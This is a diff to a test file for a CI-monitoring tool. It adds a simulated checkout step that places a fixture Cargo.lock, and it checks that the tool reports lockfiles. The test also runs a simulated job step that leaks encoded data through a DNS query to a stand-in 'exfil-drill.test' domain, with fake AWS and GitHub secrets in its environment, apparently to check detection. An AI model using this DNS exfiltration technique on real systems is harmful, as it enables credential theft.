@@ -14,6 +14,7 @@ import { getJson, startAgent, startCollector, type Daemon } from '../support/tel
 const SEND = fileURLToPath(new URL('../evasion/send-query.mjs', import.meta.url));
 const LEAK = 'mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpi2dk.nrxw4zlbmjrwmzjq.exfil-drill.test';
 const SECRET = 'wJalrXUtnFEMI-K7MDENG-bPxRfiCYEXAMPLEKEY';
+const CARGO_LOCK = fileURLToPath(new URL('../fixtures/cargo-exfil/Cargo.lock', import.meta.url));
 
 describe('CI jobs found on the host', () => {
   let dir: string;
@@ -37,15 +38,18 @@ describe('CI jobs found on the host', () => {
   it('tracks a GitHub Actions job as a build named from its variables, and alerts on its leak', async () => {
     const worker = join(dir, 'Runner.Worker');
     copyFileSync('/bin/bash', worker);
+    const workspace = mkdtempSync(join(dir, 'workspace-'));
     const env = {
+      GITHUB_WORKSPACE: workspace,
       PATH: process.env.PATH ?? '/usr/bin:/bin', GITHUB_ACTIONS: 'true', GITHUB_REPOSITORY: 'acme/payments', GITHUB_RUN_ID: '9001', GITHUB_RUN_ATTEMPT: '1',
       GITHUB_JOB: 'build', GITHUB_SHA: '0123abcd', GITHUB_WORKFLOW_REF: 'acme/payments/.github/workflows/ci.yml@refs/heads/main',
       GITHUB_TOKEN: 'ghs_do_not_forward', AWS_SECRET_ACCESS_KEY: SECRET,
     };
-    // The worker runs one step (a child process), as Runner.Worker does, then exits.
+    // The worker runs its steps (child processes), as Runner.Worker does, then exits: a
+    // "checkout" that puts a Cargo.lock in the workspace, then the step that leaks.
     const step = `${process.execPath} ${SEND} udp ${dns.port} ${LEAK}`;
     const code = await new Promise<number | null>((resolve) => {
-      const p = spawn(worker, ['-c', `bash -c '${step}'; sleep 0.3`], { env, stdio: 'ignore' });
+      const p = spawn(worker, ['-c', `cp ${CARGO_LOCK} ${workspace}/Cargo.lock; bash -c '${step}'; sleep 0.3`], { env, stdio: 'ignore' });
       p.once('exit', (c) => resolve(c));
     });
     expect(code).toBe(0);
@@ -67,5 +71,9 @@ describe('CI jobs found on the host', () => {
     expect(detail).not.toContain(SECRET);
     expect(detail).not.toContain('ghs_do_not_forward');
     expect(agent.output()).not.toContain(SECRET);
+    // The job's workspace is where its CI says: the lockfile the checkout step put there was
+    // reported when the next step started.
+    const { lockfiles } = await getJson<{ lockfiles: { path: string; status: string; packages: number }[] }>(`${collector.httpUrl}/api/builds/${builds[0]!.id}`);
+    expect(lockfiles.map((l) => [l.path, l.status, l.packages])).toEqual([['Cargo.lock', 'parsed', 4]]);
   });
 });
